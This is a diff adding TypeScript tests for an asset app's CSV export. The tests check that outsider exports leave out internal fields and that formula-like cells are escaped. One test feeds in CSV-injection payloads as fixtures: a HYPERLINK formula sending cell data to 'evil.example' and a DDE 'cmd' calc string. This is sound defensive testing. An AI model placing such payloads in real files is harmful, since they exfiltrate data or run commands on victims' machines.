@@ -420,6 +420,97 @@ describe('outsider paths never carry internal content', () => {
   });
 });
 
+describe('CSV exports', () => {
+  const parse = async (csv: string) => {
+    const Papa = (await import('papaparse')).default;
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    return { rows: parsed.data, columns: parsed.meta.fields ?? [] };
+  };
+
+  it('hands outsiders only outsider columns: no people, lists, tags, body or bookkeeping', async () => {
+    const contributor = await t.as('tmm');
+    const owner = await t.as('tmm');
+    const ownerEmail = (await owner.get('/api/auth/session')).body.user.email as string;
+    const contributorEmail = (await contributor.get('/api/auth/session')).body.user.email as string;
+    const internalList = await createList(tmm, 'Competitive deals (internal)');
+    const asset = await createAsset(tmm, internalList, {
+      title: 'Partner-ready tutorial',
+      summary: 'How to set up the pipeline.',
+      body: 'Internal note: the customer in the screenshots is Acme.',
+      keyTakeaway: 'Pitch it against the incumbent',
+      visibility: 'external',
+      safeToShare: true,
+      ownerId: owner.userId,
+      contributorIds: [contributor.userId],
+      tags: ['deal-desk'],
+      externalKey: 'partner-tutorial-key',
+      primaryUrl: 'https://example.test/partner-tutorial',
+      solutionIds: [term('solution', 'Automated Software Delivery')],
+    });
+    const response = await viewer.get('/api/assets/export?audience=external');
+    expect(response.status).toBe(200);
+    const csv = response.body as string;
+    for (const secret of [
+      ownerEmail,
+      contributorEmail,
+      'Competitive deals (internal)',
+      'Internal note',
+      'incumbent',
+      'deal-desk',
+      'partner-tutorial-key',
+      asset.id,
+    ])
+      expect(csv, secret).not.toContain(secret);
+    const { rows, columns } = await parse(csv);
+    for (const column of ['owner_email', 'contributor_emails', 'lists', 'body', 'visibility', 'status', 'id'])
+      expect(columns).not.toContain(column);
+    expect(rows.find((row) => row.title === 'Partner-ready tutorial')).toMatchObject({
+      summary: 'How to set up the pipeline.',
+      solutions: 'Automated Software Delivery',
+      primary_url: 'https://example.test/partner-tutorial',
+      published_on: '2026-06-15',
+    });
+    // The internal export still carries them, for the team itself.
+    const internal = (await tmm.get('/api/assets/export')).body as string;
+    expect(internal).toContain(ownerEmail);
+    expect(internal).toContain('Competitive deals (internal)');
+  });
+
+  it('escapes cells that spreadsheets would run as formulas, and the import reads them back unchanged', async () => {
+    const hostile = {
+      title: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      summary: '@SUM(1+1)',
+      body: "\r=cmd|' /C calc'!A0",
+      keyTakeaway: "'=already quoted",
+      tags: ['+plus', '-minus', "'quoted"],
+    };
+    const asset = await createAsset(tmm, listId, {
+      ...hostile,
+      visibility: 'external',
+      safeToShare: true,
+      primaryUrl: 'https://example.test/hostile',
+    });
+    const ends = ['=', '+', '-', '@', '\t', '\r'];
+    for (const audience of ['internal', 'external']) {
+      const { rows } = await parse((await tmm.get(`/api/assets/export?audience=${audience}`)).body);
+      const row = rows.find((r) => r.primary_url === 'https://example.test/hostile');
+      expect(row, audience).toBeDefined();
+      for (const [column, value] of Object.entries(row ?? {}))
+        expect(ends.includes(value.charAt(0)), `${audience} ${column}: ${value}`).toBe(false);
+      expect(row?.title).toBe(`'${hostile.title}`);
+      expect(row?.summary).toBe(`'${hostile.summary}`);
+    }
+    const { rows } = await parse((await tmm.get('/api/assets/export')).body);
+    const row = rows.find((r) => r.id === asset.id) as Record<string, string>;
+    expect(row.body).toBe(`'${hostile.body}`);
+    expect(row.key_takeaway).toBe(`''=already quoted`);
+    expect(row.tags).toBe(`'+plus; -minus; 'quoted`);
+    const result = (await tmm.post('/api/assets/import', { rows: [row] })).body;
+    expect(result.outcomes[0]).toMatchObject({ action: 'unchanged', id: asset.id });
+    expect((await tmm.get(`/api/assets/${asset.id}`)).body).toMatchObject({ ...hostile, version: 1 });
+  });
+});
+
 describe('lists', () => {
   it('shows one asset in many lists, and refuses to delete the only list of a published asset', async () => {
     const a = await createList(tmm, 'Alpha');
